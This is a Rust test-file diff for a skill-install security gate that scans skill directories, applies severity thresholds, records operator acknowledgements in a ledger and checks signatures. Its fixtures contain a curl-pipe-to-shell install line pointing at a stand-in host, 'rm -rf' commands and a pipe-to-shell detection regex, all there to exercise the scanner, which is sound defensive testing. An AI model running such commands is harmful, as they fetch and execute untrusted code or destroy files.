@@ -1,7 +1,15 @@
+use std::path::PathBuf;
+use std::process::Command;
+
+use odin_governance::ack_ledger::{AckLedger, AckLedgerEntry};
 use odin_governance::import::{
-    evaluate_install, Ack, ImportGateError, InstallGateStatus, SkillImportCandidate,
+    evaluate_install, evaluate_install_dir, Ack, ImportGateError, InstallGate, InstallGateStatus,
+    SkillImportCandidate,
 };
-use odin_governance::risk_scan::RiskCategory;
+use odin_governance::pins::content_sha256;
+use odin_governance::risk_scan::{RiskCategory, RiskScanner, RiskSeverity};
+use odin_governance::skill_dir::{scan_skill_dir, FileKind};
+use odin_governance::skill_signature::SkillSignerTrustStore;
 use odin_plugin_protocol::{SkillRecord, TrustLevel};
 
 fn candidate_untrusted_with_script() -> SkillImportCandidate {
@@ -18,10 +26,10 @@ fn candidate_untrusted_with_script() -> SkillImportCandidate {
     }
 }
 
-fn candidate_trusted_local() -> SkillImportCandidate {
-    let mut record = SkillRecord::default_for("trusted-local");
-    record.trust_level = TrustLevel::Trusted;
-    record.source = "local:/skills/trusted-local".to_string();
+fn candidate_caution_local() -> SkillImportCandidate {
+    let mut record = SkillRecord::default_for("caution-local");
+    record.trust_level = TrustLevel::Caution;
+    record.source = "local:/skills/caution-local".to_string();
 
     SkillImportCandidate {
         record,
@@ -30,10 +38,10 @@ fn candidate_trusted_local() -> SkillImportCandidate {
     }
 }
 
-fn candidate_trusted_with_benign_script() -> SkillImportCandidate {
-    let mut record = SkillRecord::default_for("trusted-script");
-    record.trust_level = TrustLevel::Trusted;
-    record.source = "local:/skills/trusted-script".to_string();
+fn candidate_caution_with_benign_script() -> SkillImportCandidate {
+    let mut record = SkillRecord::default_for("caution-script");
+    record.trust_level = TrustLevel::Caution;
+    record.source = "local:/skills/caution-script".to_string();
 
     SkillImportCandidate {
         record,
@@ -42,10 +50,10 @@ fn candidate_trusted_with_benign_script() -> SkillImportCandidate {
     }
 }
 
-fn candidate_trusted_with_docs_link() -> SkillImportCandidate {
-    let mut record = SkillRecord::default_for("trusted-docs");
-    record.trust_level = TrustLevel::Trusted;
-    record.source = "local:/skills/trusted-docs".to_string();
+fn candidate_caution_with_docs_link() -> SkillImportCandidate {
+    let mut record = SkillRecord::default_for("caution-docs");
+    record.trust_level = TrustLevel::Caution;
+    record.source = "local:/skills/caution-docs".to_string();
 
     SkillImportCandidate {
         record,
@@ -54,10 +62,10 @@ fn candidate_trusted_with_docs_link() -> SkillImportCandidate {
     }
 }
 
-fn candidate_trusted_with_secret_like_readme() -> SkillImportCandidate {
-    let mut record = SkillRecord::default_for("trusted-secret-readme");
-    record.trust_level = TrustLevel::Trusted;
-    record.source = "local:/skills/trusted-secret-readme".to_string();
+fn candidate_caution_with_secret_like_readme() -> SkillImportCandidate {
+    let mut record = SkillRecord::default_for("caution-secret-readme");
+    record.trust_level = TrustLevel::Caution;
+    record.source = "local:/skills/caution-secret-readme".to_string();
 
     SkillImportCandidate {
         record,
@@ -75,24 +83,24 @@ fn untrusted_skill_requires_ack() {
 }
 
 #[test]
-fn trusted_skill_without_scripts_can_proceed() {
-    let plan = evaluate_install(&candidate_trusted_local(), Ack::None).expect("plan");
+fn caution_skill_without_scripts_can_proceed() {
+    let plan = evaluate_install(&candidate_caution_local(), Ack::None).expect("plan");
 
     assert_eq!(plan.status, InstallGateStatus::Allowed);
     assert!(plan.findings.is_empty(), "expected no scan findings");
 }
 
 #[test]
-fn trusted_skill_with_script_requires_ack_even_without_scan_findings() {
-    let plan = evaluate_install(&candidate_trusted_with_benign_script(), Ack::None).expect("plan");
+fn caution_skill_with_script_requires_ack_even_without_scan_findings() {
+    let plan = evaluate_install(&candidate_caution_with_benign_script(), Ack::None).expect("plan");
 
     assert_eq!(plan.status, InstallGateStatus::BlockedAckRequired);
     assert!(plan.findings.is_empty(), "expected no scan findings");
 }
 
 #[test]
-fn trusted_skill_with_docs_links_only_can_proceed_without_ack() {
-    let plan = evaluate_install(&candidate_trusted_with_docs_link(), Ack::None).expect("plan");
+fn caution_skill_with_docs_links_only_can_proceed_without_ack() {
+    let plan = evaluate_install(&candidate_caution_with_docs_link(), Ack::None).expect("plan");
 
     assert_eq!(plan.status, InstallGateStatus::Allowed);
     assert!(plan.findings.is_empty(), "expected no scan findings");
@@ -111,7 +119,7 @@ fn ack_accepted_allows_untrusted_script_install_plan() {
 
 #[test]
 fn empty_skill_name_is_rejected() {
-    let mut candidate = candidate_trusted_local();
+    let mut candidate = candidate_caution_local();
     candidate.record.name = "   ".to_string();
 
     let err = evaluate_install(&candidate, Ack::None).expect_err("empty name must fail");
@@ -119,9 +127,9 @@ fn empty_skill_name_is_rejected() {
 }
 
 #[test]
-fn trusted_secret_finding_without_scripts_requires_ack() {
+fn caution_secret_finding_without_scripts_requires_ack() {
     let plan =
-        evaluate_install(&candidate_trusted_with_secret_like_readme(), Ack::None).expect("plan");
+        evaluate_install(&candidate_caution_with_secret_like_readme(), Ack::None).expect("plan");
 
     assert_eq!(plan.status, InstallGateStatus::BlockedAckRequired);
     assert!(
@@ -133,8 +141,8 @@ fn trusted_secret_finding_without_scripts_requires_ack() {
 }
 
 #[test]
-fn trusted_secret_finding_with_ack_accepted_is_allowed() {
-    let plan = evaluate_install(&candidate_trusted_with_secret_like_readme(), Ack::Accepted)
+fn caution_secret_finding_with_ack_accepted_is_allowed() {
+    let plan = evaluate_install(&candidate_caution_with_secret_like_readme(), Ack::Accepted)
         .expect("plan");
 
     assert_eq!(plan.status, InstallGateStatus::Allowed);
@@ -145,3 +153,212 @@ fn trusted_secret_finding_with_ack_accepted_is_allowed() {
         "expected secret finding"
     );
 }
+
+#[test]
+fn skill_directory_findings_point_at_file_and_line() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    std::fs::create_dir_all(dir.path().join("bin")).expect("mkdir");
+    std::fs::create_dir_all(dir.path().join("node_modules/dep")).expect("mkdir");
+    std::fs::write(
+        dir.path().join("README.md"),
+        "# Setup\n\n```sh\ncurl https://example.invalid/install.sh | sh\n```\n",
+    )
+    .expect("write readme");
+    std::fs::write(
+        dir.path().join("bin/sync"),
+        "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['rm -rf', '/tmp/cache'])\n",
+    )
+    .expect("write script");
+    std::fs::write(dir.path().join("node_modules/dep/index.js"), "fetch(url)").expect("write");
+
+    let scan = scan_skill_dir(dir.path()).expect("scan");
+    let kinds: Vec<_> = scan
+        .files
+        .iter()
+        .map(|f| (f.path.clone(), f.kind))
+        .collect();
+    assert_eq!(
+        kinds,
+        [
+            (PathBuf::from("README.md"), FileKind::Markdown),
+            (PathBuf::from("bin/sync"), FileKind::Python),
+        ]
+    );
+    assert_eq!(
+        scan.files[0].commands,
+        ["curl https://example.invalid/install.sh | sh"]
+    );
+    assert_eq!(scan.files[0].urls, ["https://example.invalid/install.sh"]);
+
+    let location = |pattern: &str| {
+        scan.findings
+            .iter()
+            .find(|finding| finding.pattern == pattern)
+            .and_then(|finding| finding.location.clone())
+            .map(|location| (location.file, location.line))
+    };
+    assert_eq!(
+        location("curl | sh"),
+        None,
+        "pattern needs the pipe adjacent"
+    );
+    assert_eq!(location("| sh"), Some((PathBuf::from("README.md"), 4)));
+    assert_eq!(location("rm -rf"), Some((PathBuf::from("bin/sync"), 3)));
+    assert_eq!(location("fetch("), None, "node_modules is skipped");
+
+    let mut record = SkillRecord::default_for("sync");
+    record.trust_level = TrustLevel::Caution;
+    let plan = evaluate_install_dir(&record, dir.path(), Ack::None).expect("plan");
+    assert_eq!(plan.status, InstallGateStatus::BlockedAckRequired);
+    assert_eq!(plan.reasons, ["script_present"]);
+}
+
+#[test]
+fn findings_at_the_block_threshold_block_even_with_ack() {
+    let scanner = RiskScanner::from_yaml(
+        "schema_version: 1\n\
+         block_at: critical\n\
+         severities:\n  network: low\n\
+         patterns:\n\
+         \x20 - id: pipe-to-shell\n\
+         \x20   category: shell\n\
+         \x20   regex: '\\|\\s*(ba)?sh\\b'\n\
+         \x20   severity: critical\n",
+    )
+    .expect("risk config");
+    let gate = InstallGate::new(scanner);
+
+    let plan = gate
+        .evaluate(&candidate_untrusted_with_script(), Ack::Accepted)
+        .expect("plan");
+    assert_eq!(plan.status, InstallGateStatus::Blocked);
+    assert!(plan.reasons.iter().any(|r| r == "blocking_finding"));
+    let severity = |pattern: &str| {
+        plan.findings
+            .iter()
+            .find(|finding| finding.pattern == pattern)
+            .map(|finding| finding.severity)
+    };
+    assert_eq!(severity("pipe-to-shell"), Some(RiskSeverity::Critical));
+
+    let plan = gate
+        .evaluate(&candidate_caution_with_docs_link(), Ack::None)
+        .expect("plan");
+    assert_eq!(plan.status, InstallGateStatus::Allowed);
+    assert!(plan
+        .findings
+        .iter()
+        .all(|finding| finding.severity == RiskSeverity::Low));
+}
+
+#[test]
+fn ledger_acks_apply_only_while_findings_match() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let ledger = AckLedger::new(dir.path().join("config/acks.ledger.jsonl"));
+    let gate = InstallGate::default().with_ack_ledger(ledger.clone());
+    let mut candidate = candidate_untrusted_with_script();
+
+    let plan = gate.evaluate(&candidate, Ack::None).expect("plan");
+    assert_eq!(plan.status, InstallGateStatus::BlockedAckRequired);
+    ledger
+        .append(&AckLedgerEntry {
+            operator: "alice".to_string(),
+            skill: "untrusted-script".to_string(),
+            findings_sha256: plan.findings_sha256.clone(),
+            acked_at_unix: 1_000,
+            requested_by: None,
+        })
+        .expect("append");
+
+    let plan = gate.evaluate(&candidate, Ack::None).expect("plan");
+    assert_eq!(plan.status, InstallGateStatus::Allowed);
+    assert_eq!(
+        plan.ledger_ack.map(|entry| entry.operator),
+        Some("alice".to_string())
+    );
+
+    candidate.scripts.push("rm -rf ~/.cache".to_string());
+    let plan = gate.evaluate(&candidate, Ack::None).expect("plan");
+    assert_eq!(plan.status, InstallGateStatus::BlockedAckRequired);
+    assert!(plan.reasons.iter().any(|r| r == "stale_ack"));
+    assert_eq!(ledger.entries().expect("entries").len(), 1);
+}
+
+#[test]
+fn trusted_imports_need_a_valid_signature_over_the_skill_directory() {
+    let mut candidate = candidate_caution_local();
+    candidate.record.trust_level = TrustLevel::Trusted;
+    let plan = evaluate_install(&candidate, Ack::Accepted).expect("plan");
+    assert_eq!(plan.status, InstallGateStatus::Blocked);
+    assert_eq!(plan.reasons, ["signature_required"]);
+
+    let dir = tempfile::tempdir().expect("tempdir");
+    std::fs::write(dir.path().join("SKILL.md"), "# Notes\n").expect("write skill");
+    let unsigned_digest = content_sha256(dir.path()).expect("digest");
+    std::fs::write(dir.path().join("SKILL.md.minisig"), "not a signature").expect("write sig");
+
+    let plan = InstallGate::default()
+        .with_signature(
+            SkillSignerTrustStore::from_yaml(
+                "schema_version: 1\nsigners:\n  - {id: ops, method: gpg, key: key.pub}\n",
+                dir.path(),
+            )
+            .expect("trust store")
+            .signature("ops", dir.path().join("SKILL.md.minisig"))
+            .expect("trusted signer"),
+        )
+        .evaluate_dir(&candidate.record, dir.path(), Ack::None)
+        .expect("plan");
+    assert_eq!(plan.status, InstallGateStatus::Blocked);
+    assert_eq!(plan.reasons, ["signature_invalid"]);
+    assert!(plan
+        .signature_rejection
+        .is_some_and(|detail| detail.contains("unsupported signature method")));
+    assert_eq!(plan.content_sha256, Some(unsigned_digest));
+    assert!(plan.signature.is_none());
+}
+
+#[test]
+#[ignore] // requires minisign CLI tool
+fn minisign_signed_skill_directories_import_as_trusted() {
+    let keys = tempfile::tempdir().expect("tempdir");
+    let dir = tempfile::tempdir().expect("tempdir");
+    std::fs::write(dir.path().join("SKILL.md"), "# Notes\n").expect("write skill");
+    let (secret, public) = (keys.path().join("skill.key"), keys.path().join("skill.pub"));
+    let run = |command: &mut Command| assert!(command.status().expect("run minisign").success());
+    run(Command::new("minisign")
+        .args(["-G", "-W", "-s"])
+        .arg(&secret)
+        .arg("-p")
+        .arg(&public));
+    let message = keys.path().join("pack.digest");
+    std::fs::write(&message, content_sha256(dir.path()).expect("digest")).expect("write digest");
+    let signature = dir.path().join("skill.minisig");
+    run(Command::new("minisign")
+        .arg("-Sm")
+        .arg(&message)
+        .arg("-s")
+        .arg(&secret)
+        .arg("-x")
+        .arg(&signature));
+
+    let mut record = SkillRecord::default_for("signed");
+    record.trust_level = TrustLevel::Trusted;
+    let plan = InstallGate::default()
+        .with_signature(
+            SkillSignerTrustStore::from_yaml(
+                "schema_version: 1\nsigners:\n  - {id: release, key: skill.pub}\n",
+                keys.path(),
+            )
+            .expect("trust store")
+            .signature("release", signature)
+            .expect("trusted signer"),
+        )
+        .evaluate_dir(&record, dir.path(), Ack::None)
+        .expect("plan");
+    assert_eq!(plan.status, InstallGateStatus::Allowed);
+    assert_eq!(
+        plan.signature.map(|signature| signature.content_sha256),
+        plan.content_sha256
+    );
+}